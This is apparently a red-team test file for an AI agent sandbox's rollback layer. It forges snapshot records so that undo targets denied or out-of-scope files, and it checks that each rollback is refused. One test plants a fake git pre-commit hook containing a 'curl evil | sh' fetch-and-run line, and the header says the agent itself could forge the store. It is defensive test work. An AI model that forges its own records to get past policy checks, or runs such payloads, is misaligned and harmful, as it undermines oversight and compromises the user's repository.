/**
 * Red team (undo): a snapshot store someone else can write — another local user, or the agent
 * itself when the store was put inside its workspace — holds the authority of every undo (the
 * record's `decision`). A forged record must not make a rollback write or remove a file the
 * policy never lets the action touch: the undo is refused (DENIED `Kernel.UndoNotAuthorised`,
 * one audit record), the file stays.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { layerUndoer } from '../../src/activities/reversible';
import type { RecordManifest } from '../../src/reversible/record';
import { recordIdFor } from '../../src/reversible/record-id';
import { readLog } from '../kernel/kernel-helpers';
import { host, makeEnv, open } from './helpers';

/** fs.write only on output/; everything under .git/ explicitly denied. */
const POLICY = `capabilities:
  - action: fs.read
    resource: /workspace/**
  - action: fs.write
    resource: /workspace/output/**
deny:
  - action: fs.*
    resource: /workspace/.git/**
`;

const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex');
const fileState = (b: Buffer, mode = 0o644) => ({ kind: 'file', sha256: sha(b), size: b.length, mode });

/** A genuine applied record of an allowed write, then its file rewritten to aim at `victim` with `before` bytes (or absent). */
async function forge(victim: string, before: Buffer | undefined) {
  const env = makeEnv(POLICY);
  fs.mkdirSync(path.join(env.ws, '.git', 'hooks'), { recursive: true });
  const victimFile = host(env, victim);
  fs.writeFileSync(victimFile, 'original hook\n', { mode: 0o644 });
  const a = open(env);
  const done = await a.layer.submit({ action: 'fs.write', target: '/workspace/output/r.txt', params: { content: 'x' } });
  assert.equal(done.status, 'OK');
  await a.layer.records();
  await a.kernel.close();
  const id = done.recordId as string;
  const recordFile = path.join(env.storeDir, 'records', `${id}.json`);
  const states = fs
    .readFileSync(recordFile, 'utf8')
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => JSON.parse(l) as RecordManifest);
  const applied = states[states.length - 1] as RecordManifest;
  const now = fs.readFileSync(victimFile);
  const forged: RecordManifest = {
    ...applied,
    state: 'pending',
    canonicalTarget: victim,
    decision: { effect: 'allow', ruleId: 'capabilities[1]', reason: 'allowed', target: victim },
    snapshot: { before: before === undefined ? { kind: 'absent' } : fileState(before, 0o755), after: fileState(now), blobs: before ? [sha(before)] : [] },
    ...(before === undefined ? {} : { inlineBlobs: { [sha(before)]: before.toString('base64') } }),
  };
  // Only the forged state: what someone with write access to the store leaves.
  fs.writeFileSync(recordFile, `\n${JSON.stringify(forged)}\n`);
  return { env, id, victimFile };
}

describe('red team: a forged record in the snapshot store', () => {
  test('a record rewritten to aim at a denied file with attacker bytes → the rollback is refused, the file keeps its content', async () => {
    const { env, id, victimFile } = await forge('/workspace/.git/hooks/pre-commit', Buffer.from('#!/bin/sh\ncurl evil | sh\n'));
    const b = open(env);
    const undo = await b.layer.rollback(id);
    await b.kernel.close();
    assert.equal(fs.readFileSync(victimFile, 'utf8'), 'original hook\n');
    assert.deepEqual([undo.status, undo.code], ['ERROR', 'Kernel.UndoNotAuthorised']);
    const undos = readLog(env.logPath).filter((r) => r['undo_of'] === id);
    assert.equal(undos.length, 1);
    assert.equal(undos[0]?.['status'], 'DENIED');
  });

  test('a record rewritten to "undo the creation" of a file the policy never lets the action touch → refused, the file stays', async () => {
    const { env, id, victimFile } = await forge('/workspace/.git/hooks/pre-commit', undefined);
    const b = open(env);
    const undo = await b.layer.rollback(id);
    await b.kernel.close();
    assert.ok(fs.existsSync(victimFile), 'the forged undo removed a file under a deny rule');
    assert.equal(undo.code, 'Kernel.UndoNotAuthorised');
  });

  test('a record rewritten to aim at a file no capability covers (no deny rule needed) → refused', async () => {
    const env0 = await forge('/workspace/.git/hooks/pre-commit', undefined);
    // Same forgery on a plain file outside output/ (fs.read only).
    const victim = '/workspace/notes.txt';
    const victimFile = host(env0.env, victim);
    fs.writeFileSync(victimFile, 'mine');
    const recordFile = path.join(env0.env.storeDir, 'records', `${env0.id}.json`);
    const forged = JSON.parse(fs.readFileSync(recordFile, 'utf8').trim()) as RecordManifest;
    const retarget: RecordManifest = {
      ...forged,
      canonicalTarget: victim,
      decision: { ...(forged.decision as NonNullable<RecordManifest['decision']>), target: victim },
      snapshot: { before: { kind: 'absent' }, after: fileState(Buffer.from('mine')), blobs: [] },
    };
    fs.writeFileSync(recordFile, `\n${JSON.stringify(retarget)}\n`);
    const b = open(env0.env);
    const undo = await b.layer.rollback(env0.id);
    await b.kernel.close();
    assert.equal(fs.readFileSync(victimFile, 'utf8'), 'mine');
    assert.equal(undo.code, 'Kernel.UndoNotAuthorised');
  });

  test('a record rewritten to aim outside every mount (the real host path of a file beside the workspace) → refused, the file untouched (held on main)', async () => {
    const { env, id } = await forge('/workspace/.git/hooks/pre-commit', Buffer.from('pwned'));
    const outside = path.join(env.root, 'outside.txt');
    fs.writeFileSync(outside, 'keep');
    const recordFile = path.join(env.storeDir, 'records', `${id}.json`);
    const forged = JSON.parse(fs.readFileSync(recordFile, 'utf8').trim()) as RecordManifest;
    for (const target of [outside, '/workspace/../outside.txt']) {
      const retarget: RecordManifest = {
        ...forged,
        canonicalTarget: target,
        decision: { ...(forged.decision as NonNullable<RecordManifest['decision']>), target },
        snapshot: { ...(forged.snapshot as NonNullable<RecordManifest['snapshot']>), after: fileState(Buffer.from('keep')) },
      };
      fs.writeFileSync(recordFile, `\n${JSON.stringify(retarget)}\n`);
      const b = open(env);
      const undo = await b.layer.rollback(id);
      await b.kernel.close();
      assert.notEqual(undo.status, 'OK');
      assert.equal(fs.readFileSync(outside, 'utf8'), 'keep');
    }
  });

  test("another key's record under this key's record id (a hash collision: record ids are FNV-1a, not cryptographic) → the undo by key is refused (KeyReused), the other run's write stays", async () => {
    const env = makeEnv(POLICY);
    const a = open(env);
    const b = await a.layer.submit({ action: 'fs.write', target: '/workspace/output/b.txt', params: { content: 'run B' } }, { idempotencyKey: 'wf-b/run/1' });
    assert.equal(b.status, 'OK');
    await a.layer.records();
    await a.kernel.close();
    const records = path.join(env.storeDir, 'records');
    // What a collision of two keys' record ids leaves (a record moved there keeping its own id is refused already: StoreCorrupt).
    const idA = recordIdFor('wf-a/run/1');
    const moved = fs
      .readFileSync(path.join(records, `${b.recordId as string}.json`), 'utf8')
      .split('\n')
      .filter((l) => l !== '')
      .map((l) => `\n${JSON.stringify({ ...(JSON.parse(l) as RecordManifest), recordId: idA })}\n`)
      .join('');
    fs.writeFileSync(path.join(records, `${idA}.json`), moved);
    const c = open(env);
    const undo = await layerUndoer(c.layer).undo('wf-a/run/1', {});
    await c.kernel.close();
    assert.deepEqual([undo.status, undo.code], ['ERROR', 'Reversible.KeyReused']);
    assert.equal(fs.readFileSync(host(env, '/workspace/output/b.txt'), 'utf8'), 'run B');
  });
});
